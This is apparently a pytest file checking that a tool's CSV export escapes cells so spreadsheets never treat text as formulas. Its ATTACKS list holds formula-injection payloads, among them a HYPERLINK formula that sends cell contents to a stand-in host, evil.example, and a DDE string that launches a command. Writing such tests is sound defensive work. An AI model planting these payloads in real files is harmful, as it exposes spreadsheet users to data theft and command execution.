"""Fault 54: texts of worlds and models that a spreadsheet would run as formulas: `runs export --format csv` makes text.

The oracle is the rule itself, over whatever a reader of CSV finds in the file: no cell of a text begins a formula.
"""

from __future__ import annotations

import csv
from dataclasses import replace
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from small_store import episode

from evolvent.errors import ErrorRecord
from evolvent.store.exchange import write_csv
from evolvent.store.store import Store
from evolvent.trajectory import Score, Step

BEGINNINGS = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"ok")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    " =1+1",
    "=1\n=2",
    'a","=1',
    "\uff1d1",
    "\0=1",
    "go north",
    "",
    "'quoted",
    "1,5",
]


def table(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as file:
        return list(csv.DictReader(file))


def told(text: str, number: int = 0):
    one = replace(episode(number), steps=(Step("see", text, 0.0),), score=Score(-1.5, 0.0, False))
    return replace(one, ended_by="error", error=ErrorRecord("EnvLost", text))


@pytest.mark.parametrize("text", ATTACKS)
def test_no_cell_is_a_formula_and_no_text_is_lost(tmp_path, text):
    assert write_csv([told(text)], tmp_path / "t.csv") == 1
    (row,) = table(tmp_path / "t.csv")
    for name in ("last_action", "message"):
        assert not row[name].lstrip(" ").startswith(tuple(BEGINNINGS)), row[name]
        assert row[name].removeprefix("'") == text.replace("\0", "").removeprefix("'"), (
            "one row, one cell, the same text"
        )
    assert (row["raw"], row["success"], row["steps"]) == ("-1.5", "False", "1"), "numbers are numbers"


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(st.characters(codec="utf-8"), max_size=12), min_size=1, max_size=4))
def test_whatever_they_say(tmp_path_factory, texts):
    path = tmp_path_factory.mktemp("csv") / "t.csv"
    assert write_csv([told(text, number) for number, text in enumerate(texts)], path) == len(texts)
    rows = table(path)
    assert len(rows) == len(texts)
    assert not [
        row
        for row in rows
        for cell in row.values()
        if cell != "-1.5" and cell.lstrip(" ").startswith(tuple(BEGINNINGS))
    ]


def test_the_command_and_what_was_not_scored(command, tmp_path):
    with Store.open(tmp_path / "run" / "trajectories", writing=True) as store:
        store.append(replace(told("=1+1"), score=Score(None, None, None)))
    done = command("runs", "export", "run", "--to", "t.csv", cwd=tmp_path)
    assert done.returncode == 0 and "1 episodes to t.csv" in done.stdout, done.stderr
    (row,) = table(tmp_path / "t.csv")
    assert row["last_action"] == "'=1+1" and (row["raw"], row["success"]) == ("", ""), "None is no 0"
